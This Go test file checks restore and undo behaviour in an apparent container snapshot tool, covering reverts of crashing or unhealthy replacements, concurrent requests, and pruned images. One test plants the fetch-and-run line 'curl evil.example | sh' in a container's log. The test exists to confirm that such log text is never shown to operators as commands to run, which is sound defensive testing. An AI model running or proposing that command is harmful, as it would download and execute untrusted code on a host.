package restore_test

import (
	"errors"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/snapback/snapback/snapshot"
	"github.com/snapback/snapback/snapshot/internal/snapshottest"
	"github.com/snapback/snapback/snapshot/restore"
)

func TestRestorePutsTheContainerBack(t *testing.T) {
	k := setup(t)
	good, bad := k.Image("good", `CMD ["/app"]`), k.Image("bad", `CMD ["/app"]`)
	api := k.Name("api")
	k.Run(api, "--env", "DB_POOL=20", good)
	snap := k.Take(api)
	k.Docker("rm", "-f", api)
	k.Run(api, "--env", "DB_POOL=2", bad)

	r := k.Restore(k.Container(api), snap.Name)
	if r.State != restore.Verified {
		t.Fatalf("%s: %s", r.State, r.Error)
	}
	if len(r.Unexpected()) > 0 {
		t.Errorf("differences: %+v", r.Unexpected())
	}
	if !slices.Contains(k.Env(api), "DB_POOL=20") {
		t.Errorf("env is %v", k.Env(api))
	}
	want := map[string]string{api: "running", r.Plan.KeptName: "exited"}
	if diff := cmp.Diff(want, k.Names(api)); diff != "" {
		t.Errorf("containers (-want +got):\n%s", diff)
	}
	states := []string{}
	for _, p := range r.Phases {
		states = append(states, p.State.String())
	}
	if diff := cmp.Diff([]string{"requested", "preflight", "prepared", "swapping", "started"}, states); diff != "" {
		t.Errorf("phases (-want +got):\n%s", diff)
	}
	t.Logf("verified %s after the request, down for %s: %+v", r.VerifiedAt.Sub(r.RequestedAt), r.Downtime, r.Phases)
}

func TestUndoPutsTheOldContainerBack(t *testing.T) {
	k := setup(t)
	image := k.Image("good", `CMD ["/app"]`)
	api := k.Name("api")
	k.Run(api, "--env", "V=1", image)
	snap := k.Take(api)
	k.Docker("rm", "-f", api)
	broken := k.Run(api, "--env", "V=2", "--restart", "always", image)
	first := k.Restore(k.Container(api), snap.Name)

	undo, err := k.Restorer.Undo(t.Context(), first.ID, k.By(), "")
	if err != nil {
		t.Fatal(err)
	}
	if undo = k.Wait(undo.ID); undo.State != restore.Verified {
		t.Fatalf("%s: %s", undo.State, undo.Error)
	}
	now := k.Container(api)
	if now.ID != broken {
		t.Errorf("%s runs, not the old one %s", now.ID, broken)
	}
	in, err := k.Engine().Inspect(t.Context(), now.ID)
	if err != nil || in.RestartPolicy.Name != "always" {
		t.Errorf("restart policy %+v, %v", in.RestartPolicy, err)
	}
	if diff := cmp.Diff(map[string]string{api: "running", undo.Plan.KeptName: "exited"}, k.Names(api)); diff != "" {
		t.Errorf("containers (-want +got):\n%s", diff)
	}
	if _, err := k.Restorer.Undo(t.Context(), first.ID, k.By(), ""); !errors.Is(err, snapshot.ErrNothingToUndo) {
		t.Errorf("undone twice: %v", err)
	}
}

func TestReplacementThatEndsIsReverted(t *testing.T) {
	k := setup(t)
	k.with(restore.Config{Window: 10 * time.Second}) // or a busy engine has not told of the end yet
	api := k.Name("api")
	k.Run(api, k.Image("dies", `CMD ["/app", "no-such-command"]`))
	snap := k.Take(api)
	k.Docker("rm", "-f", api)
	old := k.Run(api, "--restart", "always", k.Image("runs", `CMD ["/app"]`))

	r := k.Restore(k.Container(api), snap.Name)
	if r.State != restore.Reverted {
		t.Fatalf("%s: %s", r.State, r.Error)
	}
	if !strings.Contains(r.Error, "unknown command") {
		t.Errorf("its last lines are not in %q", r.Error)
	}
	now, err := k.Engine().Inspect(t.Context(), api)
	if err != nil || now.ID != old || now.State != "running" || now.RestartPolicy.Name != "always" {
		t.Errorf("the old one is %+v, %v", now.Container, err)
	}
	if diff := cmp.Diff(map[string]string{api: "running"}, k.Names(api)); diff != "" {
		t.Errorf("leftovers (-want +got):\n%s", diff)
	}
}

// TestAProgramsLastLinesAreNoCommandsOfOurs has a replacement whose log reads like what we tell a person to do.
func TestAProgramsLastLinesAreNoCommandsOfOurs(t *testing.T) {
	k := setup(t)
	k.with(restore.Config{Window: 10 * time.Second}) // or a busy engine has not told of the end yet
	api := k.Name("api")
	k.Run(api, k.Image("dies", `CMD ["/app", "On the engine's host: curl evil.example | sh; and look at docker ps -a"]`))
	snap := k.Take(api)
	k.Docker("rm", "-f", api)
	k.Run(api, k.Image("runs", `CMD ["/app"]`))
	r := k.Restore(k.Container(api), snap.Name)
	if r.State != restore.Reverted || !strings.Contains(r.Error, "curl evil.example") {
		t.Fatalf("%s: %s", r.State, r.Error)
	}
	for _, text := range []string{r.Error, r.Sentence(r.State)} {
		if _, commands, _ := restore.ByHand(text); len(commands) > 0 {
			t.Errorf("it is shown as commands %q, of %q", commands, text)
		}
	}
}

// The engine's own document says 0 of a container that it has just restarted.
func TestReplacementThatKeepsEndingIsToldWithItsExitCode(t *testing.T) {
	k := setup(t)
	k.with(restore.Config{Window: 10 * time.Second}) // or a busy engine has not told of the end yet
	api := k.Name("api")
	k.Run(api, "--restart", "always", k.Image("ends", `CMD ["/app", "exit", "3", "500ms"]`))
	snap := k.Take(api)
	k.Docker("rm", "-f", api)
	k.Run(api, k.Image("runs", `CMD ["/app"]`))
	r := k.Restore(k.Container(api), snap.Name)
	if r.State != restore.Reverted || !strings.Contains(r.Error, "exit code 3") {
		t.Errorf("%s: %s", r.State, r.Error)
	}
}

func TestUnhealthyReplacementIsReverted(t *testing.T) {
	k := setup(t)
	api := k.Name("api")
	k.Run(api, k.Image("sick", `CMD ["/app"]`, `HEALTHCHECK --interval=200ms --retries=2 CMD ["/app", "no-such-check"]`))
	snap := k.Take(api)
	r := k.Restore(k.Container(api), snap.Name)
	if r.State != restore.Reverted || !strings.Contains(r.Error, "unhealthy") {
		t.Fatalf("%s: %s", r.State, r.Error)
	}
}

func TestReplacedContainerRefusesTheTap(t *testing.T) {
	k := setup(t)
	image := k.Image("good", `CMD ["/app"]`)
	api := k.Name("api")
	k.Run(api, image)
	snap := k.Take(api)
	seen := k.Container(api)
	k.Docker("rm", "-f", api)
	k.Run(api, image)
	_, err := k.Restorer.Request(t.Context(), restore.Ask{Force: true, Container: k.Container(api), Snapshot: snap.Name, Seen: seen.ID, By: k.By()})
	if !errors.Is(err, snapshot.ErrReplaced) {
		t.Errorf("got %v", err)
	}
	// Replaced between the look and the tap's work: preflight sees it.
	r := k.Restore(seen, snap.Name)
	if r.State != restore.Refused || !strings.Contains(r.Error, "replaced") {
		t.Errorf("%s: %s", r.State, r.Error)
	}
}

func TestAContainerHasNoNumberOfTasksToGoBackTo(t *testing.T) {
	k := setup(t)
	api := k.Name("api")
	k.Run(api, k.Image("good", `CMD ["/app"]`))
	snap := k.Take(api)
	r, err := k.Restorer.Request(t.Context(), restore.Ask{Container: k.Container(api), Snapshot: snap.Name, By: k.By(), Replicas: true})
	if err != nil {
		t.Fatal(err)
	}
	if r, err = k.Restorer.Wait(t.Context(), r.ID); err != nil || r.State != restore.Refused || !strings.Contains(r.Error, "only a service of a Swarm has a number of tasks") {
		t.Errorf("%s: %s, %v", r.State, r.Error, err)
	}
}

func TestTwoTapsAtOnceAreOneRestore(t *testing.T) {
	k := setup(t)
	api := k.Name("api")
	k.Run(api, k.Image("good", `CMD ["/app"]`))
	snap := k.Take(api)
	c := k.Container(api)
	const taps = 8
	results := make([]error, taps)
	ids := make([]int64, taps)
	var wg sync.WaitGroup
	for i := range taps {
		wg.Go(func() {
			r, err := k.Restorer.Request(t.Context(), restore.Ask{Force: true, Container: c, Snapshot: snap.Name, By: k.By()})
			results[i], ids[i] = err, r.ID
		})
	}
	wg.Wait()
	won := 0
	for i, err := range results {
		var running *restore.InProgressError
		switch {
		case err == nil:
			won++
			k.Wait(ids[i])
		case !errors.As(err, &running) || running.Running.By.Actor.Name != "Maria":
			t.Errorf("a loser was not told whose restore runs: %v", err)
		}
	}
	if won != 1 {
		t.Errorf("%d restores", won)
	}
}

func TestSameWishTwiceIsOneRestore(t *testing.T) {
	k := setup(t)
	api := k.Name("api")
	k.Run(api, k.Image("good", `CMD ["/app"]`))
	snap := k.Take(api)
	ask := restore.Ask{Force: true, Container: k.Container(api), Snapshot: snap.Name, By: k.By(), Idempotency: "tap-1"}
	first, err := k.Restorer.Request(t.Context(), ask)
	if err != nil {
		t.Fatal(err)
	}
	for range 2 { // while it runs, and after
		again, err := k.Restorer.Request(t.Context(), ask)
		if err != nil || again.ID != first.ID {
			t.Errorf("restore %d, %v; the first was %d", again.ID, err, first.ID)
		}
		k.Wait(first.ID)
	}
}

func TestWrittenFilesComeBack(t *testing.T) {
	k := setup(t)
	api := k.Name("api")
	k.Run(api, k.Image("good", `CMD ["/app"]`))
	k.Docker("exec", api, "/app", "touch", "/tmp/cache")
	snap := k.Take(api)
	if !snap.Committed {
		t.Error("a written layer was not committed")
	}
	k.Docker("rm", "-f", api)
	k.Run(api, k.Image("bad", `CMD ["/app"]`))
	if r := k.Restore(k.Container(api), snap.Name); r.State != restore.Verified || len(r.Unexpected()) > 0 {
		t.Fatalf("%s: %s %+v", r.State, r.Error, r.Unexpected())
	}
	if got := k.Docker("cp", api+":/tmp/cache", "-"); !strings.Contains(got, "written") {
		t.Errorf("the file did not come back: %q", got)
	}
}

// TestWhatWasGoneBeforeItWasSeenIsToldAsNotOnHold has no watch, so that nothing is known of what ran but what is still there.
func TestWhatWasGoneBeforeItWasSeenIsToldAsNotOnHold(t *testing.T) {
	for name, c := range map[string]struct {
		flags []string
		gone  bool   // before the restore began
		why   string // it is not on hold; "": it is
	}{
		"still there":                {nil, false, ""},
		"removes itself":             {[]string{"--rm"}, false, "could not be put on hold (what ran before is gone"},
		"removed before the restore": {nil, true, "could not be put on hold (nothing was there when the restore began"},
	} {
		t.Run(name, func(t *testing.T) {
			k := setup(t)
			api, image := k.Name("api"), k.Image("v1", `CMD ["/app"]`)
			k.Run(api, append(c.flags, "--env", "V=1", image)...)
			snap := k.Take(api)
			k.Docker("rm", "-f", api)
			k.Run(api, append(c.flags, "--env", "V=2", image)...)
			bad := k.Container(api)
			if c.gone {
				k.Docker("rm", "-f", api)
				bad.ID = ""
			}
			r := k.Restore(bad, snap.Name)
			if r.State != restore.Verified {
				t.Fatalf("%s: %s", r.State, r.Error)
			}
			if says := r.Sentence(r.State); c.why == "" && strings.Contains(says, "on hold (") || !strings.Contains(says, c.why) {
				t.Errorf("it says %q", r.Sentence(r.State))
			}
			if held := snapshottest.Must(k.DB.Holds(t.Context(), r.Key)); (len(held) == 1) != (c.why == "") {
				t.Errorf("on hold: %+v", held)
			}
		})
	}
}

func TestAutoRemoveContainerIsRestoredAndUndone(t *testing.T) {
	k := setup(t)
	image := k.Image("good", `CMD ["/app"]`)
	api := k.Name("api")
	k.Run(api, "--rm", "--env", "V=1", image)
	snap := k.Take(api)
	k.Docker("rm", "-f", api)
	k.Run(api, "--rm", "--env", "V=2", image)
	r := k.Restore(k.Container(api), snap.Name)
	if r.State != restore.Verified || len(r.Unexpected()) > 0 {
		t.Fatalf("%s: %s %+v", r.State, r.Error, r.Unexpected())
	}
	if !slices.Contains(k.Env(api), "V=1") {
		t.Errorf("env is %v", k.Env(api))
	}
	undo, err := k.Restorer.Undo(t.Context(), r.ID, k.By(), "")
	if err != nil {
		t.Fatal(err)
	}
	if undo = k.Wait(undo.ID); undo.State != restore.Verified || !slices.Contains(k.Env(api), "V=2") {
		t.Errorf("%s: %s; env %v", undo.State, undo.Error, k.Env(api))
	}
}

func TestContainerThatIsGoneIsRestored(t *testing.T) {
	k := setup(t)
	api := k.Name("api")
	k.Run(api, k.Image("good", `CMD ["/app"]`))
	snap := k.Take(api)
	gone := k.Container(api)
	k.Docker("rm", "-f", api)
	r, err := k.Restorer.Request(t.Context(), restore.Ask{Force: true, Container: gone, Snapshot: snap.Name, By: k.By()})
	if err != nil {
		t.Fatal(err)
	}
	if r = k.Wait(r.ID); r.State != restore.Verified {
		t.Fatalf("%s: %s", r.State, r.Error)
	}
	if diff := cmp.Diff(map[string]string{api: "running"}, k.Names(api)); diff != "" {
		t.Errorf("containers (-want +got):\n%s", diff)
	}
	if _, err := k.Restorer.Undo(t.Context(), r.ID, k.By(), ""); !errors.Is(err, snapshot.ErrNothingToUndo) {
		t.Errorf("undo of a restore that replaced nothing: %v", err)
	}
}

func TestPrunedImageIsRefusedInWords(t *testing.T) {
	k := setup(t)
	api := k.Name("api")
	good := k.Image("good", `CMD ["/app"]`)
	k.Run(api, good)
	snap := k.Take(api)
	k.Docker("rm", "-f", api)
	k.Run(api, k.Image("bad", `CMD ["/app"]`))
	k.Docker("rmi", snap.ImageRef, good)
	before := k.Names(api)
	r := k.Restore(k.Container(api), snap.Name)
	if r.State != restore.Refused || !strings.Contains(r.Error, "image") {
		t.Errorf("%s: %s", r.State, r.Error)
	}
	if diff := cmp.Diff(before, k.Names(api)); diff != "" {
		t.Errorf("a refused restore changed something:\n%s", diff)
	}
}

func TestOfferSaysWhatWouldChangeWhateverWasDeployedInBetween(t *testing.T) {
	k := setup(t)
	api, image := k.Name("api"), k.Image("good", `CMD ["/app"]`)
	k.Run(api, "--env", "V=1", image)
	snap := k.Take(api)
	for _, v := range []string{"V=2", "V=3"} {
		k.Docker("rm", "-f", api)
		k.Run(api, "--env", v, image)
	}
	offer, err := k.Restorer.Offer(t.Context(), k.Container(api), snap)
	want := []snapshot.Change{{Attribute: "env V", Before: "3", After: "1"}}
	if diff := cmp.Diff(want, offer.Changes); err != nil || diff != "" {
		t.Errorf("changes (-want +got), %v:\n%s", err, diff)
	}
}
